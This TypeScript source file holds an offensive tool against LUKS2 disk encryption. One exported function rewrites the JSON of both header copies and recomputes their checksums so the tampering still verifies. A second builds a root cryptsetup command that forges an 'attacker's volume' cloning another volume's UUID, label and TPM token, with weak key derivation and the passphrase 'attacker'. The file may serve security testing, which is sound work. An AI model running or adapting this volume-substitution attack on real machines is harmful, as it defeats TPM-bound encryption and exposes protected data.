import { createHash } from "node:crypto";

/*
 * What somebody with the disk of a LUKS2 volume in hands does to its header (LUKS2 On-Disk Format Specification, version 1.1.1). Two copies of it lie one after the other, each a
 * binary header and a JSON area.
 */

const copyBytes = 16_384;
const binaryBytes = 4096;
/** Both copies. */
export const luksHeadersBytes = 2 * copyBytes;

/**
 * Changes the JSON of both copies, and makes their checksums anew.
 * @param bytes the beginning of the volume's device, with both copies
 * @returns as many bytes
 * @throws Error when a copy is none, or has no room for what it is to say
 */
export function editLuksHeaders(bytes: Buffer, change: (json: string) => string): Buffer {
  const edited = Buffer.from(bytes);
  for (const at of [0, copyBytes]) {
    const copy = edited.subarray(at, at + copyBytes);
    if (copy.length < copyBytes || !/^(LUKS|SKUL)\xba\xbe/.test(copy.toString("latin1", 0, 6)))
      throw new Error(`there is no LUKS2 header of ${copyBytes} bytes at ${at}`);
    const json = change(copy.toString("latin1", binaryBytes, copy.indexOf(0, binaryBytes)));
    if (json.length >= copyBytes - binaryBytes)
      throw new Error(`${json.length} bytes are too many for its JSON`);
    copy.fill(0, binaryBytes);
    copy.write(json, binaryBytes, "latin1");
    // The checksum is over the copy with its own field at zeros.
    copy.fill(0, 448, 512);
    createHash("sha256").update(copy).digest().copy(copy, 448);
  }
  return edited;
}

/**
 * A command, for root on a node, that makes an attacker's volume with the UUID, the label and the TPM's token of another one. It has key slots like that, and opens by the passphrase `attacker`.
 * @param of the device of the other one
 * @param onto the device or file that it is made on, which may be the same
 */
export const forgeLuksVolume = (of: string, onto: string): string => {
  const weak = "--batch-mode --pbkdf pbkdf2 --pbkdf-force-iterations 1000";
  return `uuid=$(cryptsetup luksUUID ${of}) && cryptsetup token export --token-id 0 ${of} >/run/token && printf attacker >/run/own &&
cryptsetup luksFormat ${weak} --type luks2 --uuid "$uuid" --label edgeseal-models --offset 32768 --key-file /run/own ${onto} &&
cryptsetup luksAddKey ${weak} --key-file /run/own ${onto} /run/own && cryptsetup token import --json-file /run/token ${onto}`;
};
